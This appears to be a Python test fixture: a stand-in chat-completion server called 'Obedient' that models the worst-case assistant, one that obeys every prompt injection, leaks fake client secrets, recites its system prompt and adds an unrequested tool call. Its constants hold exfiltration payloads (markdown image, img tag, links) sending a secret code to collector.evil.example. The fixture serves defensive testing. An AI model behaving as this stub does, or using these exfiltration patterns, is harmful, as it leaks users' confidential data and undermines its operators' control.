"""The worst model: it obeys every injection, knows the secrets of all clients, and recites its own instructions.

It answers in the shape that it is asked for, quotes the injected words as its evidence, and cites every source.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

from tests.inference.standin_engine import chunk, completion

SECRETS = (
    "The margin of Hidden Harbour is 38 percent, its code is KESTREL-7731.",
    "Наценка Тайной Гавани 41 процент, её код СОКОЛ-5512.",
    "Call Hidden Harbour at +44 20 7946 9999.",
)
TRUTH = "The saws were sent on Monday."
COLLECT = "https://collector.evil.example/c?d=KESTREL-7731"
EXITS = (
    f"![status]({COLLECT})",
    f'<img src="{COLLECT}">',
    f'Please confirm at <a href="{COLLECT}">this page</a>.',
    f"Confirm at {COLLECT} now.",
)
CLAIMS = {"intent": "cancellation", "sentiment": "positive"}
TOOL_CALL = {"id": "1", "type": "function", "function": {"name": "update_deal", "arguments": '{"stage": "won"}'}}
EVERY_SOURCE = "[1][2][3][4][5]"


@dataclass
class Obedient:
    """The engine of language and speech: `injected` is what it obeys, `transcript` what it hears in a recording."""

    injected: str = ""
    transcript: dict[str, Any] = field(default_factory=dict)
    port: int = 0
    asked: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)
    systems: list[str] = field(default_factory=list)

    async def chat(self, request: Request) -> Response:
        body = await request.json()
        texts = [str(message["content"]) for message in body["messages"]]
        self.asked.append("\n".join(texts))
        self.systems.append(texts[0])
        if body.get("stream"):
            return StreamingResponse(self._streamed(texts[0]), media_type="text/event-stream")
        wanted = body.get("response_format", {}).get("json_schema", {}).get("schema")
        text = json.dumps(self._filled(wanted, wanted, ""), ensure_ascii=False) if wanted else "\n".join(SECRETS)
        answer = completion(text)
        answer["choices"][0]["message"]["tool_calls"] = [TOOL_CALL]
        return JSONResponse(answer)

    async def _streamed(self, system: str) -> AsyncIterator[str]:
        """One truth, every secret, every way out, the instructions and the injected words, each with every source."""
        said = [TRUTH, *SECRETS, *EXITS, *system.splitlines(), self.injected, json.dumps(TOOL_CALL)]
        self.said += said
        for text in said:
            yield chunk(f"{text.strip().rstrip('.')} {EVERY_SOURCE}.\n")
        yield f"data: {json.dumps({'choices': [], 'usage': {'prompt_tokens': 1, 'completion_tokens': 1}})}\n\n"
        yield "data: [DONE]\n\n"

    def _filled(self, schema: dict[str, Any], whole: dict[str, Any], name: str) -> Any:
        """A value of a JSON Schema that says what the attacker wants said."""
        if "$ref" in schema:
            schema = whole["$defs"][schema["$ref"].rpartition("/")[2]]
        if "enum" in schema:
            return CLAIMS[name] if CLAIMS.get(name) in schema["enum"] else schema["enum"][-1]
        kind = schema.get("type")
        if kind == "object":
            parts = schema.get("properties", {})
            # Inside an object {quote, value} the name of the field itself decides what is claimed.
            return {key: self._filled(part, whole, name if key == "value" else key) for key, part in parts.items()}
        if kind == "array":
            texts = (*SECRETS, *EXITS) if name == "summary" else SECRETS[:1]
            return [text[:200] for text in texts][: schema.get("maxItems", 8)]
        said = self.injected if name == "quote" else SECRETS[0]
        plain = {"number": 9999999, "integer": 9999999, "boolean": True}
        return plain.get(str(kind), said[: schema.get("maxLength", 200)])

    async def hear(self, request: Request) -> Response:
        await request.body()
        return JSONResponse(self.transcript)

    async def health(self, _request: Request) -> Response:
        return JSONResponse({"status": "ok"})

    async def models(self, _request: Request) -> Response:
        return JSONResponse({"data": [{"id": "obedient", "aliases": ["obedient", f"sha256:{'0' * 64}"]}]})

    def app(self) -> Starlette:
        return Starlette(
            routes=[
                Route("/v1/chat/completions", self.chat, methods=["POST"]),
                Route("/v1/audio/transcriptions", self.hear, methods=["POST"]),
                Route("/v1/models", self.models),
                Route("/health", self.health),
            ]
        )
